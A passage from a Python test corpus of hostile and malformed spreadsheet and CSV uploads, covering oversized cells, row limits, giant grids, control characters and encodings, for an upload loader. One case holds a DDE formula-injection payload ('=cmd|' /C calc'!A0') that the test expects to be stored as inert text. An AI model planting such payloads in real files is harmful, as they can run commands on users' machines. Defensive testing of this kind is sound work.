     lambda: csv_bytes([row("HXC-1") + [LONG_BAD]], header=[*HEADER, "Strengths"]).encode(),
     rejected(("cell-too-long", None, 2, "N")), file_name="return.csv")
case("huge_cell_past_csv_field_limit", HUGE, "200,000 characters in a CSV cell (past the CSV reader's own limit)",
     lambda: csv_bytes([row("HXF-1") + ["y" * 200_000]], header=[*HEADER, "Strengths"]).encode(),
     rejected(("cell-too-long", None, 2, None)), file_name="return.csv")
case("more_rows_than_allowed", HUGE, "8 rows with QA_INSIGHT_MAX_ROWS=5",
     lambda: good_book("MR", 8), rejected(("too-many-rows", SHEET, None, None)), env={"QA_INSIGHT_MAX_ROWS": "5"})
case("more_rows_than_allowed_csv", HUGE, "8 CSV rows with QA_INSIGHT_MAX_ROWS=5",
     lambda: csv_bytes([row(f"MRC-{i}") for i in range(8)]).encode(),
     rejected(("too-many-rows", None, None, None)), file_name="return.csv", env={"QA_INSIGHT_MAX_ROWS": "5"})
case("cell_at_row_1048576", HUGE, "one cell on Excel's last row: refused before the reader allocates the grid",
     far_row, rejected(("too-many-rows", SHEET, None, None)), file_level=True)
case("cell_at_XFD1048576", HUGE, "one cell in Excel's last cell (a 17-billion-cell grid for the reader)",
     far_cell("XFD1048576"), rejected(("too-many-rows", SHEET, None, None)), file_level=True)
case("wide_sheet_grid", HUGE, "a cell at XFD1000: 16 million cells from A1",
     far_cell("XFD1000"), rejected(("sheet-too-large", SHEET, None, None)), file_level=True)
case("lying_dimension", HUGE, "the sheet's <dimension> claims A1:XFD1048576 (the reader ignores it)",
     lambda: edit(good_book("LD"), SHEET1, lambda x: re.sub(rb'<dimension ref="[^"]*"/>',
                                                            b'<dimension ref="A1:XFD1048576"/>', x)),
     accepted(2))
case("empty_styled_cell_far_away", HUGE, "an empty formatted cell at XFD1048576 (no value): not counted",
     lambda: edit(good_book("ES"), SHEET1, lambda x: x.replace(
         b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" s="0"/></row></sheetData>')),
     accepted(2))

CTRL = "control characters"
case("control_chars_xlsx", CTRL, "Team E2 holds _x0007_ (bell) and _x001B_ (escape) escapes",
     with_cell("CC", "E2", '<c r="E2" t="inlineStr"><is><t>MASH_x0007_ Te_x001B_am</t></is></c>'),
     accepted(2, ("control-characters-removed", SHEET, 2, "E"), stored=(("CC-1", "team", "MASH Team"),)))
case("control_chars_csv_nul", CTRL, "NUL bytes inside CSV cells",
     lambda: csv_bytes([row("CN-1", Team="MASH\x00 Team"), row("CN-2", Worker="Sam\x00 Patel")]).encode(),
     accepted(2, ("control-characters-removed", None, 2, "E"), stored=(("CN-1", "team", "MASH Team"),
                                                                         ("CN-2", "worker", "Sam Patel"))),
     file_name="return.csv")

CSV = "CSV"
case("csv_utf8_bom", CSV, "UTF-8 with a byte-order mark (Excel's 'CSV UTF-8')",
     lambda: ("\ufeff" + csv_bytes([row("BOM-1", Worker="Siân Ó Briain")])).encode(),
     accepted(1, stored=(("BOM-1", "worker", "Siân Ó Briain"),)), file_name="return.csv")
case("csv_utf16", CSV, "UTF-16 with a byte-order mark (Excel's 'Unicode text')",
     lambda: csv_bytes([row("U16-1", Worker="Siân Ó Briain")]).encode("utf-16"),
     accepted(1, stored=(("U16-1", "worker", "Siân Ó Briain"),)), file_name="return.csv")
case("csv_formula_injection", CSV, "Team '=cmd|' /C calc'!A0': stored as inert text",
     lambda: csv_bytes([row("FI-1", Team="=cmd|' /C calc'!A0")]).encode(),
     accepted(1, stored=(("FI-1", "team", "=cmd|' /C calc'!A0"),)), file_name="return.csv")
case("csv_error_literal", CSV, "#REF! written into a CSV by Excel",
     lambda: csv_bytes([row("CE-1", **{"Overall grade": "#REF!"})]).encode(),
     rejected(("error-value", None, 2, "M")), file_name="return.csv")
case("csv_binary_garbage", CSV, "random bytes named .csv",
     lambda: bytes(range(256)) * 40, rejected(("no-header-row", None, None, None)), file_name="return.csv")

CASES: dict[str, Case] = {c.name: c for c in C}
assert len(CASES) == len(C), "case names must be unique"


def markdown() -> str:
    lines = [
        "# Hostile and broken input corpus",
        "",
        "Generated from `tests/hostile/corpus.py` (`python tests/hostile/corpus.py > docs/hostile_corpus.md`);",
        "`tests/test_hostile_corpus.py` runs every case, checks this page is current, and runs the whole corpus",
        "in a subprocess under a memory limit. *All kinds*: refused before any sheet is read, so every loader",
        "kind (`loaders.KINDS`) gives the same answer; otherwise the audit loader. Locations are sheet, then",
        "column and row as Excel shows them. Every rejection leaves every table unchanged but `loads`.",
        "",
        f"{len(C)} cases.",
        "",
        "| case | group | the file | loaders | expected |",
        "|---|---|---|---|---|",
    ]
    for c in C:
        env = f" (`{' '.join(f'{k}={v}' for k, v in c.env.items())}`)" if c.env else ""
        lines.append(f"| `{c.name}` | {c.group} | {c.about}{env} | {'all kinds' if c.file_level else 'audits'} "
                     f"| {c.expected.describe()} |")
    return "\n".join(lines) + "\n"


if __name__ == "__main__":
    sys.stdout.write(markdown())
